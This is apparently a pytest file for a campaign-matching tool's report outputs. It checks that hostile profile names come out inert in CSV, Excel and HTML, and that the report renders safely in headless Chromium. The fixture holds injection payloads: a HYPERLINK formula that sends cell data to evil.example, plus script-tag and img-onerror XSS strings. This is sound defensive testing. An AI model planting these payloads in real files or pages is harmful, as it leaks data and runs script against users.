"""The run's report and reviewer files: hostile profile text arrives inert; the page works in a
real headless browser (Debian's chromium), and a screenshot is taken."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from markupsafe import escape
from openpyxl import load_workbook

from tests.reviewing import run_campaign, small_campaign

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"open me")'
SCRIPT = '<script>document.title="pwned"</script>'
PARTNERSHIP = "<img src=x onerror=alert(1)>"
BROWSER_FLAGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
    "--disable-component-update", "--disable-sync", "--no-first-run",
    "--enable-logging=stderr", "--v=0",
]  # fmt: skip


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> Path:
    """A run whose visitors and hosts carry hostile names and a hostile partnership."""
    folder = small_campaign(tmp_path_factory.mktemp("report") / "campaign", 60, 15, seed=11)
    profiles = pd.read_csv(folder / "profiles.csv", dtype=str, keep_default_na=False)
    visitors = profiles.index[profiles["role"] == "visitor"]
    hosts = profiles.index[profiles["role"] == "host"]
    profiles.loc[visitors[::2], "org_name"] = HYPERLINK
    profiles.loc[visitors[1::2], "org_name"] = SCRIPT
    profiles.loc[hosts, "org_name"] = SCRIPT
    partnership = profiles["partnership"].iloc[0]
    profiles["partnership"] = profiles["partnership"].replace(partnership, PARTNERSHIP)
    quotas = pd.read_csv(folder / "quotas.csv", dtype=str, keep_default_na=False)
    quotas["partnership"] = quotas["partnership"].replace(partnership, PARTNERSHIP)
    profiles.to_csv(folder / "profiles.csv", index=False)
    quotas.to_csv(folder / "quotas.csv", index=False)
    return run_campaign(folder, folder / "runs" / "r1", "r1")


def test_hostile_names_are_inert_in_the_csv(hostile_run):
    text = (hostile_run / "proposals.csv").read_text()
    table = pd.read_csv(hostile_run / "proposals.csv", dtype=str, keep_default_na=False)
    names = set(table["visitor_org"]) | set(table["host_org"])
    assert names and names <= {f"'{HYPERLINK}", SCRIPT}  # '<' cannot start a formula
    assert f"'{HYPERLINK}" in names
    for cell in table.to_numpy().ravel():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "@example" not in text  # no contact data


def test_hostile_names_are_inert_in_the_workbook(hostile_run):
    sheet = load_workbook(hostile_run / "proposals.xlsx")["proposals"]
    formulas = [
        cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]
    assert formulas == []
    values = {cell.value for row in sheet.iter_rows(min_row=2) for cell in row}
    assert f"'{HYPERLINK}" in values
    with zipfile.ZipFile(hostile_run / "proposals.xlsx") as archive:
        content = "".join(
            archive.read(name).decode("utf-8", "replace") for name in archive.namelist()
        )
    assert "<f>" not in content and "@example" not in content


def test_the_columns_a_reviewer_types_into_are_wide_enough(hostile_run):
    """The audit of what a person sees: the empty note column was 6.7 characters wide."""
    sheet = load_workbook(hostile_run / "proposals.xlsx")["proposals"]
    header = {cell.value: cell.column_letter for cell in sheet[1]}
    assert sheet.column_dimensions[header["note"]].width >= 40
    assert sheet.column_dimensions[header["decided_by"]].width >= 16


def test_every_profile_field_is_escaped_in_the_html(hostile_run):
    html = (hostile_run / "report.html").read_text()
    assert "<script>document.title" not in html and "<img src=x" not in html
    assert "&lt;script&gt;document.title=&#34;pwned&#34;&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert html.count("<script") == 1  # only the report's own filter script
    assert re.search(r"script-src 'sha256-[A-Za-z0-9+/=]+'", html)  # no other script may run
    assert not re.search(r"(src|href)\s*=\s*[\"']?(https?:|//)", html)  # nothing is loaded
    assert "@example" not in html


def test_the_report_has_every_section(hostile_run):
    html = (hostile_run / "report.html").read_text()
    for section in ("changes", "kpis", "scores", "flows", "solver", "proposals"):
        assert f'<section id="{section}">' in html
    assert html.count("<svg") == 4  # KPI bars, score histogram, country flows, solver figures
    proposals = pd.read_parquet(hostile_run / "proposals.parquet")
    table = html[html.index('id="proposal-table"') :]
    assert table.count("<tr data-partnerships=") == len(proposals)
    kpis = pd.read_csv(hostile_run / "kpis.csv")
    shown = kpis[(kpis["target"] > 0) | (kpis["achieved"] > 0) | (kpis["proposed"] > 0)]
    for partnership in set(shown["partnership"]):  # KPI rows carry their partnership too
        name = escape(partnership)
        assert f'<tr data-partnership="{name}"><td>{name}</td>' in html


def chromium() -> str | None:
    for name in ("chromium", "chromium-browser", "google-chrome"):
        if found := shutil.which(name):
            return found
    if os.environ.get("CI"):
        pytest.fail(
            "chromium is not installed: .ci/run installs Debian's chromium before the tests"
        )
    pytest.skip("chromium is not installed (apt-get install chromium)")


def browse(
    page: Path, profile: Path, *extra: str, fragment: str = ""
) -> subprocess.CompletedProcess:
    browser = chromium()
    assert browser is not None
    return subprocess.run(
        [browser, *BROWSER_FLAGS, f"--user-data-dir={profile}", *extra, page.as_uri() + fragment],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip


def test_the_report_loads_in_headless_chromium_without_errors(hostile_run, tmp_path):
    page = hostile_run / "report.html"
    loaded = browse(page, tmp_path / "profile-1", "--dump-dom")
    assert loaded.returncode == 0, loaded.stderr[-2000:]
    dom = loaded.stdout
    assert 'data-ready="yes"' in dom  # our script ran to its end
    assert "Uncaught" not in loaded.stderr and "Refused to" not in loaded.stderr
    assert "<title>pwned</title>" not in dom and "cxmatch run r1" in dom
    proposals = pd.read_parquet(hostile_run / "proposals.parquet")
    rows = re.findall(r"<tr data-partnerships=[^>]*data-band=[^>]*>", dom)
    assert len(rows) == len(proposals) and not any("hidden" in row for row in rows)

    visitor = proposals["visitor_id"].iloc[0]
    filtered = browse(page, tmp_path / "profile-2", "--dump-dom", fragment=f"#q={visitor}")
    rows = re.findall(r"<tr data-partnerships=[^>]*data-band=[^>]*>", filtered.stdout)
    assert sum("hidden" not in row for row in rows) == 1  # the client-side filter works


def test_the_partnership_view_shows_that_partnership_only(tmp_path):
    """The audit of what a person sees: ``#partnership=BLUES`` kept the campaign's headline
    cards and every partnership's changes, showed only the proposals where BLUES visits (not
    where it hosts), and ``#partnership=blues`` showed nothing, "594 of 594 shown"."""
    folder = small_campaign(tmp_path / "campaign", 60, 15, seed=11)
    run = run_campaign(folder, folder / "runs" / "r1", "r1")
    proposals = pd.read_parquet(run / "proposals.parquet")
    crossing = proposals[proposals["visitor_partnership"] != proposals["host_partnership"]]
    name = str(crossing["host_partnership"].value_counts().index[0])  # one that hosts
    mine = proposals[
        (proposals["visitor_partnership"] == name) | (proposals["host_partnership"] == name)
    ]
    assert (proposals["visitor_partnership"] == name).sum() < len(mine)
    shown = browse(
        run / "report.html", tmp_path / "p", "--dump-dom", fragment=f"#partnership={name.lower()}"
    )
    assert shown.returncode == 0, shown.stderr[-2000:]
    dom = shown.stdout
    rows = re.findall(r"<tr data-partnerships=[^>]*data-band=[^>]*>", dom)
    assert sum("pt-off" not in row for row in rows) == len(mine)
    assert f'<span id="shown">{len(mine)}</span>' in dom
    assert '<div class="cards pt-off" data-overview="">' in dom  # the campaign's figures


def test_a_screenshot_of_the_report_is_taken(hostile_run, tmp_path):
    shot = tmp_path / "report.png"
    taken = browse(
        hostile_run / "report.html", tmp_path / "profile", f"--screenshot={shot}",
        "--window-size=1400,1800", "--hide-scrollbars",
    )  # fmt: skip
    assert taken.returncode == 0, taken.stderr[-2000:]
    assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and shot.stat().st_size > 20_000


def test_contact_data_only_in_the_workbook_and_only_when_asked(tmp_path):
    from typer.testing import CliRunner

    from engine.cli.main import app

    folder = small_campaign(tmp_path / "campaign", 40, 10, seed=5)
    emails = set(pd.read_csv(folder / "profiles.csv", dtype=str)["contact_email"].dropna())
    assert emails
    runs = {}
    for name, flags in (("plain", []), ("contacts", ["--with-contacts"])):
        out = tmp_path / name
        args = ["run", str(folder), "--out", str(out), "--time-limit", "5", "--workers", "1"]
        result = CliRunner().invoke(app, args + flags)
        assert result.exit_code == 0, result.output
        runs[name] = out
    for name, out in runs.items():
        for path in out.iterdir():
            if path.suffix in (".csv", ".html", ".json"):
                assert not emails & set(re.findall(r"[\w.+-]+@[\w.-]+", path.read_text())), path
        sheet = load_workbook(out / "proposals.xlsx")["proposals"]
        cells = {str(cell.value) for row in sheet.iter_rows() for cell in row}
        assert bool(emails & cells) == (name == "contacts")


def test_an_uncalibrated_chance_is_not_called_calibrated(hostile_run):
    """The scoring audit: with too few decisions to calibrate on, the report called the score
    read as a chance "that calibrated probability"; it says what the chance is."""
    assert '"calibrated": false' in (hostile_run / "manifest.json").read_text()
    page = (hostile_run / "report.html").read_text()
    assert "chance: p_accept, the 0-100 score read as a probability (not calibrated" in page
    assert "that calibrated probability" not in page
